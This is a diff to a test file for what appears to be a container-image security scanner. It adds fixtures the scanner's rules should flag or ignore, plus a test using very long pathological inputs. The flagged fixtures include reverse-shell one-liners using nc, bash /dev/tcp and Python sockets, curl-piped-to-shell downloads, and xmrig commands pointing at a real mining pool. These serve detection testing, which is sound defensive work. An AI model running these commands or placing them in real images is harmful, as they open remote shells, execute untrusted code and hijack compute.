@@ -32,6 +32,7 @@ async function idsOf(file: string, more: ViewParts = {}): Promise<readonly strin
 const cases: Readonly<Record<string, { readonly fires?: readonly string[]; readonly quiet?: readonly string[] }>> = {
   miner: {
     fires: [
+      'CMD ["xmrig","-o","stratum+tcp://pool.supportxmr.com:3333"]',
       'RUN wget https://example.org/xmrig.tar.gz',
       'RUN ./x -o stratum+tcp://pool.example:3333',
       'RUN curl -O https://pool.supportxmr.com/x',
@@ -41,13 +42,20 @@ const cases: Readonly<Record<string, { readonly fires?: readonly string[]; reado
   },
   'reverse-shell': {
     fires: [
+      'RUN mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4 > f',
+      'CMD ["/bin/bash","-c","bash -i >& /dev/tcp/192.0.2.1/1 0>&1"]',
       'RUN nc -e /bin/sh 192.0.2.1 4444',
       'RUN echo "bash -i >& /dev/tcp/192.0.2.1/1 0>&1" >> /root/.bashrc',
       'RUN sh -i 5<> /dev/tcp/192.0.2.1/1',
       'RUN socat TCP:192.0.2.1:1 EXEC:sh',
       `RUN python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
     ],
-    quiet: ['RUN echo "/dev/tcp is a file of bash"', 'RUN nc -z localhost 80', 'RUN curl https://example.org/dev/tcp/'],
+    quiet: [
+      'RUN sh x.sh | nc -z localhost 80',
+      'RUN echo "/dev/tcp is a file of bash"',
+      'RUN nc -z localhost 80',
+      'RUN curl https://example.org/dev/tcp/',
+    ],
   },
   'decoded-and-run': {
     fires: [
@@ -67,6 +75,13 @@ const cases: Readonly<Record<string, { readonly fires?: readonly string[]; reado
   },
   'download-executed': {
     fires: [
+      'RUN { curl https://example.org/x; } | sh',
+      'RUN X=$(curl https://example.org/x); eval "$X"',
+      'RUN X=$(curl https://example.org/x); echo "$X" | sh',
+      'RUN bash < <(curl https://example.org/x)',
+      'RUN sha256sum -c /dev/null; curl https://example.org/x | sh',
+      'RUN curl https://example.org/x | bash -e',
+      'CMD ["/bin/sh","-c","curl https://example.org/x | sh"]',
       'RUN wget -qO- https://example.org/x | bash',
       'RUN sh -c "$(curl -fsSL https://example.org/x)"',
       'RUN bash <(curl -s https://example.org/x)',
@@ -81,6 +96,7 @@ const cases: Readonly<Record<string, { readonly fires?: readonly string[]; reado
       'ONBUILD RUN curl https://example.org/x | sh',
     ],
     quiet: [
+      'RUN X=$(curl https://example.org/x); echo "$X"',
       'RUN echo "curl https://example.org | sh"',
       'RUN curl https://example.org/x | tar -xz',
       'RUN curl https://example.org/x | python3 -c "import json"',
@@ -152,6 +168,7 @@ const cases: Readonly<Record<string, { readonly fires?: readonly string[]; reado
       'RUN chmod +w,o=rw x',
     ],
     quiet: [
+      'RUN chmod 3777 /var/run/postgresql',
       'RUN chmod 755 /srv',
       'RUN chmod 1777 /tmp',
       'RUN chmod u+w x',
@@ -544,6 +561,29 @@ describe('rules about more than instructions', () => {
     const { findings } = await told({ problems: [{ code: 'image.history-mismatch', message }] });
     expect(findings.map(({ id }) => id)).toContain('history-contradicts');
     expect(await idsOf('RUN a\nRUN b')).not.toContain('history-contradicts');
+  });
+
+  it('read hostile texts once: none makes them go back over all of it again and again', async () => {
+    const long = 200_000;
+    const odd = [
+      `RUN echo ${'a-'.repeat(long / 2)}`,
+      `RUN crontab x; echo '${'curl '.repeat(long / 5)}'`,
+      `RUN echo '${'['.repeat(long)}'`,
+      `RUN printf '${'\\n'.repeat(long / 2)}'`,
+      `RUN chmod ${'o'.repeat(long)} x`,
+      `RUN echo '${'\n'.repeat(long)}x' > /etc/sudoers`,
+      `RUN curl -O 'http://${'a'.repeat(long)}?\nx'`,
+      `RUN ${'a;'.repeat(long / 2)}`,
+      `RUN ${'a|'.repeat(long / 2)}a`,
+      `RUN ${'curl http://a|sh;'.repeat(long / 17)}`,
+      `RUN ${'pip install x;'.repeat(long / 14)}pip cache purge`,
+      `VOLUME ${'/'.repeat(long)}x`,
+    ];
+    const entries = odd.map(
+      (createdBy, index): HistoryEntry => ({ index, createdBy, instruction: '', layerIndex: index }),
+    );
+    const { problems } = await told(viewOf(entries));
+    expect(problems.map(({ message }) => message).join()).toContain('was read in part');
   });
 
   it('never fail', async () => {
